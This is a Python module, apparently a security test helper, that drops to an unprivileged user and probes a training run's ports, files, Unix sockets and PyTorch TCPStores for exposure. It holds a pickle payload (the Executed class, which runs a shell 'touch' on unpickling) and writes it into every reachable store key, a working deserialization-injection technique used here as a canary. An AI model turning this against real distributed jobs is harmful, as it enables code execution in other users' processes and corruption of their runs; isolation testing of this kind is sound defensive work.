"""Another user of this machine, who tries all doors of a run: its ports, its files, its sockets. A child process that
has given up its rights."""

from __future__ import annotations

import base64
import contextlib
import json
import os
import pickle
import re
import signal
import socket
import stat
import threading
import traceback
from datetime import timedelta
from pathlib import Path
from typing import NamedTuple

import psutil
import torch.distributed as dist

OTHER = 65534
"""The number of a user who is nobody's friend; "nobody", most of the time."""

TRY_S = 1.0
"""How long a port may take to answer as a store does."""

LISTENS = "0A"

CHALLENGE = b"#CHALLENGE#"
"""What multiprocessing's listeners ask, of whoever connects, to be answered with a key."""

"".encode("idna")  # here, and not by the other user, who may not read where Python lies

GUESSES = ("labkit/joined", "labkit/all have joined", "labkit/returned", "labkit/token", "group/0//cpu//0/0", "rank_0")
"""Keys that a store of labkit's or of PyTorch's may have."""


class Doors(NamedTuple):
    """What of a run may be tried."""

    ports: dict[int, str]
    """Ports at which its processes listen, each with the command of the process."""
    files: list[str]
    """Its files and folders."""
    sockets: list[str]
    """Unix sockets on which its processes listen, as Linux names them."""

    @classmethod
    def of(cls, processes: list[psutil.Process], folders: list[Path]) -> Doors:
        """Return those of some processes; everything below the folders is the run's."""
        ports, sockets, files = {}, [], set()
        listening = {row[9]: int(row[1].rpartition(":")[2], 16) for row in _tcp() if row[3] == LISTENS}
        named = {row[6]: " ".join(row[7:]) for row in _unix() if int(row[3], 16) & 0x10000}
        for process in processes:
            command = " ".join(process.cmdline())
            for inode in _inodes(process):
                if inode in listening:
                    ports[listening[inode]] = command
                if inode in named:
                    sockets.append(named[inode])
            with contextlib.suppress(OSError):
                files |= set(re.findall(r"/dev/shm/[^\s]+", Path(f"/proc/{process.pid}/maps").read_text()))
        for folder in folders:
            files |= {str(path) for path in (folder, *folder.rglob("*")) if "/torchinductor_" not in str(path)}
        return cls(ports, sorted(files), sockets)


def _rows(*names: str) -> list[list[str]]:
    return [row.split() for name in names for row in Path("/proc/net", name).read_text().splitlines()[1:]]


def _tcp() -> list[list[str]]:
    return _rows("tcp", "tcp6")


def _unix() -> list[list[str]]:
    return [row for row in _rows("unix") if len(row) > 7]


def _inodes(process: psutil.Process) -> set[str]:
    found = set()
    for file in Path(f"/proc/{process.pid}/fd").iterdir():
        with contextlib.suppress(FileNotFoundError):
            if match := re.fullmatch(r"socket:\[(\d+)\]", os.readlink(file)):
                found.add(match[1])
    return found


class Executed:
    """Leaves a file where it is unpickled."""

    def __init__(self, mark: Path) -> None:
        self._mark = mark

    def __reduce__(self):
        return os.system, (f"touch '{self._mark}'",)


def try_all(doors: Doors, mark: Path, as_user: int = OTHER) -> dict[str, list[str]]:
    """Try every door as another user; return what could be reached, read, changed, by kind.

    Where something can be left to be unpickled, it is what makes the file `mark`.
    """
    receiver, sender = os.pipe()
    if not (pid := os.fork()):
        code = 1
        try:
            for number in (signal.SIGINT, signal.SIGTERM):
                signal.signal(number, signal.SIG_DFL)
            os.setgroups([])
            os.setgid(as_user)
            os.setuid(as_user)
            os.chdir("/")
            found = {
                "reached": [f"{port} {command}" for port, command in doors.ports.items() if _connects(port)],
                "store": [what for port in doors.ports for what in _as_a_store(port, mark)],
                "read": [path for path in doors.files if _reads(path)],
                "changed": [path for path in doors.files if _changes(path)],
                "socket": [name for name in doors.sockets if _is_let_in(name)],
            }
            os.write(sender, json.dumps(found).encode())
            code = 0
        except BaseException:
            traceback.print_exc()
        finally:
            os._exit(code)
    os.close(sender)
    with os.fdopen(receiver, "rb") as answer:
        text = answer.read()
    _, status = os.waitpid(pid, 0)
    assert status == 0, "the other user's process failed"
    return json.loads(text)


def _connects(port: int) -> bool:
    for host in ("127.0.0.1", "::1"):
        with contextlib.suppress(OSError):
            socket.create_connection((host, port), TRY_S).close()
            return True
    return False


def _as_a_store(port: int, mark: Path) -> list[str]:
    """Speak as PyTorch's client does; return what was done in a store that answers."""
    found: list[dist.TCPStore] = []

    def connect() -> None:
        limit = timedelta(seconds=TRY_S)
        with contextlib.suppress(RuntimeError, ValueError):
            found.append(dist.TCPStore("127.0.0.1", port, 2, is_master=False, wait_for_workers=False, timeout=limit))

    trial = threading.Thread(target=connect, daemon=True)  # it waits for ever for what answers nothing
    trial.start()
    trial.join(2 * TRY_S)
    if not found:
        return []
    (store,) = found
    done, keys = [f"{port}: {store.num_keys()} keys"], list(GUESSES)
    with contextlib.suppress(RuntimeError, NotImplementedError, AttributeError):
        keys += store.list_keys()
    evil = base64.b64encode(pickle.dumps(Executed(mark)))
    for key in keys:
        with contextlib.suppress(RuntimeError):
            if store.check([key]):
                store.get(key)
                done.append(f"{port}: {key!r} read")
            store.set(key, evil)
            done.append(f"{port}: {key!r} set")
    return done


def _reads(path: str) -> bool:
    try:
        if stat.S_ISDIR(os.stat(path).st_mode):
            os.listdir(path)
        else:
            with open(path, "rb") as file:
                file.read(1)
    except OSError:
        return False
    return True


def _changes(path: str) -> bool:
    """Try to write into a file or folder, and to put another in its place."""
    is_folder = os.path.isdir(path)
    with contextlib.suppress(OSError):
        if is_folder:
            os.mkdir(f"{path}/of another user")
        else:
            os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
        return True
    with contextlib.suppress(OSError):
        os.rename(path, f"{path}.moved")
        return True
    return False


def _is_let_in(name: str) -> bool:
    """Connect to a Unix socket, and be let in without a key, as multiprocessing's listeners would."""
    address = f"\0{name[1:]}" if name.startswith("@") else name
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(TRY_S)
        try:
            client.connect(address)
            greeting = client.recv(1 << 10)
        except OSError:
            return False
    return CHALLENGE not in greeting
